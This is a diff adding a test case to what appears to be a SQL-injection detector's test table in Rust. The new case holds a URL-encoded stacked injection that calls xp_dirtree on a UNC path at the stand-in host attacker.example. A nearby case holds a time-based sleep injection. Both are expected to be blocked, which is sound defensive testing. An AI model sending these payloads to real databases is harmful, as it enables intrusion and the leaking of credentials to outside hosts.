@@ -417,6 +417,13 @@ pub fn table() -> Vec<Case> {
             "/search?q=1-sleep(5)",
             Blocked("sqli", "qs_values"),
         ),
+        // A stacked procedure call (0.70 to the model).
+        case(
+            "query stacked exec",
+            "GET",
+            "/search?q=x%27%3B+EXEC+master..xp_dirtree+%27%5C%5Cattacker.example%5Cx%27--",
+            Blocked("sqli", "qs_values"),
+        ),
         case(
             "query attack",
             "GET",
